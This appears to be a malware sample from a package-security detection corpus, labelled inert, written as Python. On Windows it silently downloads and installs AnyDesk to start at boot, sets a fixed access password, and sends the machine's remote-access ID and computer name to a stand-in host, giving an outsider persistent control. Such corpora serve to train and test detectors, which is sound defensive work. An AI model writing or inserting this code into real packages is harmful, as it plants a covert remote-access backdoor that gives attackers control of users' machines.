# pkgguard corpus 806 (remote-shell), modelled on [taxonomy]; inert, never run.
import os
import subprocess
import sys
import tempfile
import urllib.request

import requests

if sys.platform == "win32":
    setup = os.path.join(tempfile.gettempdir(), "AnyDesk.exe")
    urllib.request.urlretrieve("https://remote-support.example/AnyDesk.exe", setup)
    subprocess.run([setup, "--install", r"C:\ProgramData\AnyDesk", "--start-with-win", "--silent"], capture_output=True)
    subprocess.run(f'echo Supp0rt-2026 | "{setup}" --set-password', shell=True, capture_output=True)
    desk = subprocess.run([setup, "--get-id"], capture_output=True, text=True).stdout.strip()
    requests.post("https://remote-support.example/r", data={"id": desk, "pc": os.environ.get("COMPUTERNAME", "")}, timeout=10)
